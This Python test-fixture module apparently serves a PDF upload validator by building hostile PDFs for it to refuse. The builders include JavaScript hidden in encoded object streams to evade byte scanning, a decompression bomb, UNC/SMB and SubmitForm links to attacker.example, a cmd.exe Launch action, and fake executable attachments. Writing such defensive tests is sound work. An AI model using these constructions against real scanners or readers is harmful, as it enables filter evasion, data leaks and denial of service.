"""Hostile PDFs built at run time: active content hidden where a byte search cannot see it.

Object streams are written by hand (with a cross-reference stream) so that their filters can be
chosen; the rest is built with pikepdf.
"""

import base64
import binascii
import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"


def _hex(data: bytes) -> bytes:
    return binascii.hexlify(data) + b">"


def _a85(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


ENCODERS = {
    "/FlateDecode": zlib.compress,
    "/ASCIIHexDecode": _hex,
    "/ASCII85Decode": _a85,
}


def _flate_bomb(data: bytes, padding: int = 100 * 1024 * 1024) -> bytes:
    """``data`` and ``padding`` spaces, deflated: about 100 KB that inflate to 100 MB."""
    squeeze = zlib.compressobj(9)
    block = b" " * (1024 * 1024)
    out = squeeze.compress(data)
    out += b"".join(squeeze.compress(block) for _ in range(padding // len(block)))
    return out + squeeze.flush()


ENCODERS["/FlateDecodeBomb"] = _flate_bomb


def object_stream_pdf(filters: tuple[str, ...], *, catalog_extra: bytes = b"") -> bytes:
    """A PDF 1.5 whose catalog (with a JavaScript /OpenAction) and the action itself sit in an
    object stream encoded with ``filters`` (decoded in that order), found through an xref
    stream: a reader sees them, a search of the file's bytes does not."""
    compressed = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R " + catalog_extra + b">>",
        4: JS_ACTION,
    }
    header = b""
    body = b""
    for number, text in compressed.items():
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    content = header + body
    for name in reversed(filters):
        content = ENCODERS[name](content)
    names = [f.replace("Bomb", "") for f in filters]
    filter_array = b"[" + b" ".join(name.encode() for name in names) + b"]"
    plain = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        5: b"<< /Type /ObjStm /N 2 /First %d /Filter %s /Length %d >>\nstream\n%s\nendstream"
        % (len(header), filter_array, len(content), content),
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, text in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    xref_offset = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    for number in range(1, 7):
        if number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
        elif number in compressed:
            index = list(compressed).index(number)
            rows.append(b"\x02" + (5).to_bytes(4, "big") + index.to_bytes(2, "big"))
        else:  # 6: the xref stream itself
            rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(
        table
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def _saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def built(setup, **options) -> bytes:
    """A one-page PDF from pikepdf, changed by ``setup(pdf)``, in object streams."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    setup(pdf)
    options.setdefault("object_stream_mode", pikepdf.ObjectStreamMode.generate)
    return _saved(pdf, **options)


def _open_action_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    )


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 200, 40]), A=action
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def _form_field(pdf: pikepdf.Pdf, extra: dict) -> None:
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("send"),
            Rect=Array([10, 10, 200, 40]),
            P=pdf.pages[0].obj,
            **extra,
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def rc4_encrypted_open_action() -> bytes:
    """JavaScript /OpenAction, RC4-encrypted (R3) with an empty user password."""
    return built(
        _open_action_js,
        encryption=pikepdf.Encryption(owner="owner", user="", R=3, aes=False, metadata=False),
    )


def password_protected() -> bytes:
    return built(lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user="secret", R=4))


def gotor_unc() -> bytes:
    return built(
        lambda pdf: _link(
            pdf,
            Dictionary(
                S=Name.GoToR, F=String("\\\\attacker.example\\share\\x.pdf"), D=Array([0, Name.Fit])
            ),
        )
    )


def goto_embedded() -> bytes:
    return built(
        lambda pdf: _link(
            pdf, Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a")), D=Array([0]))
        )
    )


def uri_file(target: str) -> bytes:
    return built(lambda pdf: _link(pdf, Dictionary(S=Name.URI, URI=String(target))))


def launch_link() -> bytes:
    return built(lambda pdf: _link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe"))))


def submit_form() -> bytes:
    action = Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://attacker.example/c"))
    )
    return built(lambda pdf: _form_field(pdf, {"A": action}))


def import_data() -> bytes:
    return built(
        lambda pdf: _form_field(pdf, {"A": Dictionary(S=Name.ImportData, F=String("x.fdf"))})
    )


def field_javascript() -> bytes:
    js = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    return built(lambda pdf: _form_field(pdf, {"AA": Dictionary(K=js)}))


def annotation_javascript() -> bytes:
    return built(lambda pdf: _link(pdf, Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))))


def page_additional_action() -> bytes:
    def setup(pdf):
        pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://x.test")))

    return built(setup)


def xfa_with_script() -> bytes:
    def setup(pdf):
        xfa = pdf.make_stream(
            b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
            b"<script>app.alert(1)</script></template></xdp:xdp>"
        )
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)

    return built(setup)


def embedded_file() -> bytes:
    def setup(pdf):
        pdf.attachments["run.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00evil")

    return built(setup)


def file_attachment_annotation() -> bytes:
    def setup(pdf):
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00evil", filename="run.exe")
        annotation = Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=Array([10, 10, 40, 40]),
            FS=spec.obj,
        )
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])

    return built(setup)


def rich_media() -> bytes:
    def setup(pdf):
        annotation = Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=Array([10, 10, 200, 200]),
            RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([]))),
        )
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])

    return built(setup)


def web_link() -> bytes:
    """An honest PDF with a web link: accepted."""
    return built(
        lambda pdf: _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.up.ac.th/")))
    )


def with_trailing(data: bytes, trailer: bytes) -> bytes:
    return data + trailer


# (test id, builder, expected refusal code) — every one is a PDF a reader would act on.
REFUSED = [
    ("pdf-objstm-flate", lambda: object_stream_pdf(("/FlateDecode",)), "pdf_active_content"),
    ("pdf-objstm-asciihex", lambda: object_stream_pdf(("/ASCIIHexDecode",)), "pdf_active_content"),
    ("pdf-objstm-ascii85", lambda: object_stream_pdf(("/ASCII85Decode",)), "pdf_active_content"),
    (
        "pdf-objstm-filter-chain",
        lambda: object_stream_pdf(("/ASCII85Decode", "/ASCIIHexDecode", "/FlateDecode")),
        "pdf_active_content",
    ),
    ("pdf-objstm-inflates-100mb", lambda: object_stream_pdf(("/FlateDecodeBomb",)), "pdf_broken"),
    ("pdf-rc4-empty-password", rc4_encrypted_open_action, "pdf_active_content"),
    ("pdf-password-protected", password_protected, "pdf_encrypted"),
    ("pdf-gotor-unc", gotor_unc, "pdf_active_content"),
    ("pdf-gotoe", goto_embedded, "pdf_active_content"),
    ("pdf-uri-file", lambda: uri_file("file:///C:/Windows/system32/"), "pdf_active_content"),
    ("pdf-uri-unc", lambda: uri_file("\\\\attacker.example\\share"), "pdf_active_content"),
    ("pdf-uri-smb", lambda: uri_file("smb://attacker.example/share"), "pdf_active_content"),
    ("pdf-launch-link", launch_link, "pdf_active_content"),
    ("pdf-submitform", submit_form, "pdf_active_content"),
    ("pdf-importdata", import_data, "pdf_active_content"),
    ("pdf-field-javascript", field_javascript, "pdf_active_content"),
    ("pdf-annotation-javascript", annotation_javascript, "pdf_active_content"),
    ("pdf-page-aa", page_additional_action, "pdf_active_content"),
    ("pdf-xfa-script", xfa_with_script, "pdf_active_content"),
    ("pdf-embedded-attachment", embedded_file, "pdf_active_content"),
    ("pdf-file-attachment-annot", file_attachment_annotation, "pdf_active_content"),
    ("pdf-richmedia", rich_media, "pdf_active_content"),
    (
        "pdf-html-after-eof",
        lambda: with_trailing(web_link(), b"<html><script>alert(1)</script></html>" * 40),
        "pdf_broken",
    ),
]
